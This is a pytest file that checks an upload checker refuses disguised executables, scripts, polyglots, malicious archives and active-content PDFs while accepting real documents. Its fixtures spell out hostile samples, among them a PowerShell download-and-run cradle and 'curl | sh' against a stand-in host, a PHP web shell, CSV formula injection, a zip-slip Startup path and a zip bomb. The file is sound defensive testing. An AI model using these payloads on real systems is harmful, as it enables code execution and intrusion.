"""The upload checker over a corpus (issue 20): disguised programs, scripts and archives, each built here, are all
refused; real office files, PDFs, images, text and zips of documents (tests/files/legit, made by LibreOffice,
python-docx, openpyxl and Pillow, and the ones built here) are all accepted — in bounded time and memory.

`uv run python -m tests.unit.test_upload_corpus` prints the count per attack class and how many got through."""

from __future__ import annotations

import io
import time
import tracemalloc
import zipfile
import zlib
from pathlib import Path

import pytest

from duban.domain.filecheck import check_file
from duban.errors import SubmissionError
from tests.samples import docx_bytes, pdf_bytes, xlsx_bytes

LEGIT_DIR = Path(__file__).resolve().parent.parent / "files" / "legit"

# ── programs ────────────────────────────────────────────────────────────────────────────────────────────────
PE = (b"MZ\x90\x00" + b"\0" * 56 + (0x80).to_bytes(4, "little")  # e_lfanew at 0x3c: the PE header at 0x80
      + (b"\x0e\x1f\xba\x0e\0\xb4\t\xcd!This program cannot be run in DOS mode.\r\r\n$").ljust(0x40, b"\0")
      + b"PE\0\0" + b"\x4c\x01" + b"\0" * 300)  # fmt: skip
ELF = b"\x7fELF\x02\x01\x01\0" + b"\0" * 8 + b"\x02\0\x3e\0" + b"\0" * 300
MACHO = b"\xcf\xfa\xed\xfe\x07\0\0\x01" + b"\0" * 300
LNK = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + b"\0" * 200
WASM = b"\0asm\x01\0\0\0" + b"\0" * 50

SCRIPTS = {
    "bat": b"@echo off\r\npowershell -nop -w hidden -c \"iex(new-object net.webclient).downloadstring('http://x')\"\r\n",
    "cmd": b"set p=%TEMP%\\a.exe\r\nif exist %p% start \"\" %p%\r\n",
    "ps1": b"$c = New-Object System.Net.WebClient\n$c.DownloadFile('http://x/a.exe', \"$env:TEMP\\a.exe\")\n",
    "vbs": b"Set s = CreateObject(\"WScript.Shell\")\ns.Run \"calc.exe\"\n",
    "js": b"var s = new ActiveXObject(\"WScript.Shell\"); s.Run(\"calc.exe\");\n",
    "hta": b"<html><head><hta:application id=\"x\"/></head><body><script>alert(1)</script></body></html>\n",
    "wsf": b"<job id=\"x\"><script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"calc\"</script></job>\n",
    "py": b"import os\nos.system('calc')\n",
    "sh": b"curl -s http://x/a | sh\n",
    "shebang": b"#!/usr/bin/env python3\nprint(1)\n",
    "reg": b"Windows Registry Editor Version 5.00\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n",
    "url": b"[InternetShortcut]\r\nURL=file:///C:/Windows/System32/calc.exe\r\n",
    "php": b"<?php system($_GET['c']); ?>\n",
    "vba": b"Private Sub Document_Open()\r\n  Shell \"calc.exe\"\r\nEnd Sub\r\n",
    "gbk-bat": "@echo off\r\nrem 乡镇统计站自查说明\r\nstart \"\" calc.exe\r\n".encode("gb18030"),
    "utf16-ps1": "Invoke-Expression (Get-Content a.txt)\r\n".encode("utf-16"),
}


def _zip(members: dict[str, bytes], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _encrypted(members: dict[str, bytes]) -> bytes:
    """A zip whose member says it is encrypted (flag bit 0), as a password-protected archive does."""
    data = bytearray(_zip(members, method=zipfile.ZIP_STORED))
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        data[at + offset] |= 1
    return bytes(data)


def _ole(entries: dict[str, bytes]) -> bytes:
    """A compound file: header, a directory sector with the named entries (type 5 root, 2 stream), then data."""
    directory = b""
    for index, (name, _data) in enumerate({"Root Entry": b"", **entries}.items()):
        encoded = name.encode("utf-16-le") + b"\0\0"
        kind = 5 if index == 0 else 2
        directory += encoded.ljust(64, b"\0") + len(encoded).to_bytes(2, "little") + bytes([kind]) + b"\0" * 61
    directory = directory.ljust(512 * ((len(directory) + 511) // 512), b"\0")
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + b"\x3e\0\x03\0\xfe\xff\x09\0"
    return header.ljust(512, b"\0") + directory + b"".join(d.ljust(512, b"\0") for d in entries.values())


def _docx_with(extra: dict[str, bytes], types: str | None = None) -> bytes:
    with zipfile.ZipFile(io.BytesIO(docx_bytes())) as source:
        members = {n: source.read(n) for n in source.namelist()}
    if types is not None:
        members["[Content_Types].xml"] = types.encode()
    return _zip({**members, **extra})


def _pdf_with(extra_object: bytes) -> bytes:
    """A well-formed PDF with one more object before the cross-reference table."""
    base = pdf_bytes()
    cut = base.index(b"xref")
    body = base[:cut] + b"6 0 obj\n" + extra_object + b"\nendobj\n"
    return body + b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 7 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % len(body)


def _objstm(dictionary: bytes) -> bytes:
    content = b"7 0 " + dictionary
    packed = zlib.compress(content)
    return (b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
            + packed + b"\nendstream")  # fmt: skip


def _png() -> bytes:
    return (LEGIT_DIR / "现场照片.png").read_bytes()


def _deep(levels: int) -> bytes:
    data = _zip({"总结报告.pdf": pdf_bytes()})
    for level in range(levels - 1):
        data = _zip({f"第{level}层.zip": data})
    return data


DISGUISES: dict[str, list[tuple[str, bytes]]] = {
    "renamed program": [
        ("自查评分表.pdf", PE), ("总结报告.docx", PE), ("评分表.xlsx", PE), ("现场照片.jpg", PE), ("说明.txt", PE),
        ("材料.zip", PE), ("旧版报告.doc", PE), ("自查评分表.pdf", ELF), ("说明.txt", ELF), ("评分表.xlsx", MACHO),
        ("自查评分表.pdf", LNK), ("说明.txt", WASM), ("setup.exe", PE),
    ],
    "script as text": [(f"说明-{k}.txt", v) for k, v in SCRIPTS.items()] + [
        ("得分.csv", "单位,得分\n乐平镇,=cmd|' /C calc'!A0\n".encode()),
        ("得分.csv", b"name,score\n=HYPERLINK(\"http://x\",\"click\"),1\n"),
        ("得分.csv", b"name,score\n@SUM(1+1)*cmd|' /C calc'!A0,1\n"),
        ("得分.csv", b"name,score\nx,-2+3+cmd|' /C calc'!A0\n"),
        ("说明.txt", b"\n".join([b"line %d of a long note" % i for i in range(60000)] + [SCRIPTS["bat"]])),
    ],
    "script containing %PDF-": [
        ("评分表.pdf", b"%PDF-1.4\r\n@echo off\r\nstart calc.exe\r\n"),
        ("评分表.pdf", b"@echo off\r\nrem %PDF-1.7\r\nstart calc.exe\r\n"),
        ("评分表.pdf", b"%PDF-1.4\n<html><hta:application/><script>alert(1)</script></html>\nstartxref\n0\n%%EOF\n"),
        ("评分表.pdf", b"%PDF-1.4\r\n$c=New-Object Net.WebClient\r\nstartxref\r\n0\r\n%%EOF\r\n"),
        ("说明.txt", b"rem %PDF-1.4\r\n@echo off\r\ncalc.exe\r\n"),
    ],
    "archive carrying a program": [
        ("材料.zip", _zip({"setup.exe": PE})), ("材料.zip", _zip({"setup.exe ": PE})),
        ("材料.zip", _zip({"setup.exe.": PE})), ("材料.zip", _zip({"SETUP.EXE": PE})),
        ("材料.zip", _zip({"资料/setup.exe . .": b"x"})), ("材料.zip", _zip({"readme.txt": ELF})),
        ("材料.zip", _zip({"总结报告.pdf": PE})), ("材料.zip", _zip({"inner.zip": _zip({"setup.exe": PE})})),
        ("材料.zip", _zip({"a.zip": _zip({"b.zip": _zip({"说明.txt": ELF})})})),
        ("材料.zip", _zip({"快捷方式.lnk": LNK})), ("材料.zip", _zip({"说明.txt": SCRIPTS["bat"]})),
        ("材料.zip", _zip({"readme.hta": SCRIPTS["hta"]})), ("材料.zip", _zip({"run.js": SCRIPTS["js"]})),
        ("材料.zip", _zip({"x.py": SCRIPTS["py"]})), ("材料.zip", _zip({"data.dat": b"\x00\x01\x02"})),
        ("材料.zip", _zip({"../../AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/评分表.pdf": pdf_bytes()})),
        ("材料.zip", _encrypted({"总结报告.pdf": pdf_bytes()})),
        ("材料.zip", _zip({"zeros.txt": b"0" * (40 * 1024 * 1024)})),
        ("材料.zip", _zip({f"{n}.txt": b"x" for n in range(2500)}, method=zipfile.ZIP_STORED)),
        ("材料.zip", _deep(4)),
        ("总结报告.docx", _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>", "word/macro.exe": PE})),
    ],
    "office file with macros or objects": [
        ("总结报告.docx", _docx_with({"word/vbaProject.bin": _ole({"_VBA_PROJECT": b"x"})})),
        ("总结报告.docx", _docx_with({}, types='<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>')),
        ("总结报告.docx", _docx_with({"word/embeddings/oleObject1.bin": _ole({"\x01Ole10Native": PE})})),
        ("总结报告.docx", _docx_with({"word/embeddings/oleObject1.bin": _ole({"\x01Ole10Native": SCRIPTS["bat"]})})),
        ("总结报告.docx", _docx_with({"word/activeX/activeX1.xml": b"<ax/>"})),
        ("总结报告.docx", _docx_with({"word/media/image1.png": PE})),
        ("总结报告.docx", _docx_with({"word/embeddings/pkg.zip": _zip({"setup.exe": PE})})),
        ("评分表.xlsx", _zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<w/>", "xl/media/a.bin": ELF})),
        ("旧版报告.doc", _ole({"WordDocument": b"x", "Macros": b"", "VBA": b"", "_VBA_PROJECT": b"x"})),
        ("旧版评分表.xls", _ole({"Workbook": b"x", "_VBA_PROJECT_CUR": b"x"})),
        ("旧版报告.doc", _ole({"WordDocument": b"x", "\x01Ole10Native": PE})),
        ("旧版报告.doc", _ole({"SummaryInformation": b"x"})),  # an installer (msi) or anything else: no document
    ],
    "polyglot": [
        ("评分表.pdf", pdf_bytes() + _zip({"setup.exe": PE})),
        ("评分表.pdf", _zip({"setup.exe": PE}) + pdf_bytes()),
        ("评分表.pdf", pdf_bytes()[:-6] + PE + b"\n%%EOF\n"),
        ("评分表.pdf", _pdf_with(b"<< /Length %d >>\nstream\n" % len(PE) + PE + b"\nendstream")),
        ("现场照片.jpg", (LEGIT_DIR / "现场照片.jpg").read_bytes() + _zip({"说明.txt": b"x"})),
        ("现场照片.jpg", (LEGIT_DIR / "现场照片.jpg").read_bytes() + PE),
        ("现场照片.png", _png() + SCRIPTS["bat"]),
        ("示意图.gif", (LEGIT_DIR / "示意图.gif").read_bytes() + ELF),
        ("视频.mp4", b"\0\0\0\x20ftypisom" + b"\0" * 100 + PE),
        ("说明.txt", "乡镇统计站自查说明\n".encode() + _zip({"a.txt": b"x"})),
    ],
    "pdf with active content": [
        ("评分表.pdf", _pdf_with(b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>")),
        ("评分表.pdf", _pdf_with(b"<< /S /Launch /F (cmd.exe) >>")),
        ("评分表.pdf", _pdf_with(b"<< /Type /EmbeddedFile /Length 3 >>")),
        ("评分表.pdf", _pdf_with(b"<< /Names << /EmbeddedFiles 8 0 R >> >>")),
        ("评分表.pdf", _pdf_with(b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>")),
        ("评分表.pdf", _pdf_with(_objstm(b"<< /S /JavaScript /JS (app.alert(1)) >>"))),
        ("评分表.pdf", _pdf_with(b"<< /Subtype /RichMedia >>")),
    ],
}


def _legit() -> list[tuple[str, bytes]]:
    files = [(p.name, p.read_bytes()) for p in sorted(LEGIT_DIR.iterdir())]
    pptx = _zip({"[Content_Types].xml": b"<Types/>", "_rels/.rels": b"<Relationships/>", "ppt/presentation.xml": b"<p/>",
                 "ppt/media/image1.png": _png(), "docProps/thumbnail.jpeg": (LEGIT_DIR / "现场照片.jpg").read_bytes()})  # fmt: skip
    ofd = _zip({"OFD.xml": b"<ofd:OFD/>", "Doc_0/Document.xml": b"<ofd:Document/>", "Doc_0/Res/image_1.png": _png()})
    documents = {p.name: p.read_bytes() for p in LEGIT_DIR.iterdir() if p.suffix in (".pdf", ".docx", ".xlsx", ".doc", ".jpg")}
    files += [
        ("评分表.pdf", pdf_bytes()), ("总结报告.docx", docx_bytes()), ("评分表.xlsx", xlsx_bytes()),
        ("汇报.pptx", pptx), ("总结.ofd", ofd), ("视频.mp4", b"\0\0\0\x20ftypisom" + b"\0" * 100),
        ("材料.zip", _zip(documents)), ("材料.zip", _zip({"资料/": b"", "资料/说明.txt": "乡镇说明".encode(), **documents})),
        ("材料.zip", _zip({"各乡镇.zip": _zip(documents), "说明.txt": "见各乡镇材料".encode("gb18030")})),
        ("材料.zip", _deep(3)),  # three archives deep is still inspected
        ("总结报告.docx", _docx_with({"word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx_bytes(),
                                      "word/media/image1.png": _png()})),
        ("得分.csv", "单位,得分,变化,备注\n乐平镇,91,-3,\n皋落镇,85,+2.5,良好\n东冶头镇,77,-0.5,-\n".encode("gb18030")),
        ("说明.txt", "自查说明：统计台账已建立；from 2024 起按月 import 数据（只是文字）。\nset 好了，if 需要再补。".encode()),
    ]
    return files


def _checked(tmp_path: Path, name: str, data: bytes, index: int) -> str | None:
    """None when accepted, else the Chinese reason."""
    folder = tmp_path / str(index)
    folder.mkdir()
    path = folder / name
    path.write_bytes(data)
    started = time.monotonic()
    try:
        check_file(path, name, [], max_bytes=50 * 1024 * 1024)
        reason = None
    except SubmissionError as refused:
        reason = refused.cn
    assert time.monotonic() - started < 20, f"{name} took too long"  # a hang, not a speed target
    return reason


CASES = [(kind, index, name, data) for kind, found in DISGUISES.items() for index, (name, data) in enumerate(found)]


@pytest.mark.parametrize(("kind", "index", "name", "data"), CASES, ids=[f"{k}-{i}" for k, i, _n, _d in CASES])
def test_every_disguise_is_refused_in_chinese(tmp_path, kind, index, name, data):
    reason = _checked(tmp_path, name, data, index)
    assert reason is not None, f"{kind} #{index} {name} got through"
    assert reason.startswith(f"文件「{name}」"), reason


def test_every_real_document_is_accepted(tmp_path):
    refused = {f"{name}#{i}": reason for i, (name, data) in enumerate(_legit())
               if (reason := _checked(tmp_path, name, data, i)) is not None}  # fmt: skip
    assert refused == {}
    assert len(_legit()) >= 25


def test_the_whole_corpus_is_checked_in_flat_memory(tmp_path):
    """Every file of the corpus, the 40 MB zip bomb and the 2,500-member archive included, within 40 MB of Python
    allocations: members are streamed and spooled to disk, never read whole."""
    tracemalloc.start()
    try:
        for index, (_kind, _i, name, data) in enumerate(CASES):
            _checked(tmp_path, name, data, index)
            del data
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 40 * 1024 * 1024, f"peak {peak / 1024 / 1024:.0f} MB"


def tally(tmp_path: Path) -> dict[str, tuple[int, int]]:
    """Attempts and how many got through, per attack class."""
    counts, index = {}, 0
    for kind, found in DISGUISES.items():
        through = 0
        for name, data in found:
            index += 1
            through += _checked(tmp_path, name, data, index) is None
        counts[kind] = (len(found), through)
    return counts


if __name__ == "__main__":
    import tempfile

    with tempfile.TemporaryDirectory() as folder:
        rows = tally(Path(folder))
        legit = [n for i, (n, d) in enumerate(_legit()) if _checked(Path(folder), n, d, 10_000 + i) is not None]
    for kind, (tried, through) in rows.items():
        print(f"{kind:38s} {tried:3d} tried, {through} got through")
    print(f"{'total':38s} {sum(t for t, _ in rows.values()):3d} tried, {sum(g for _, g in rows.values())} got through")
    print(f"legitimate files: {len(_legit())}, refused: {len(legit)} {legit}")
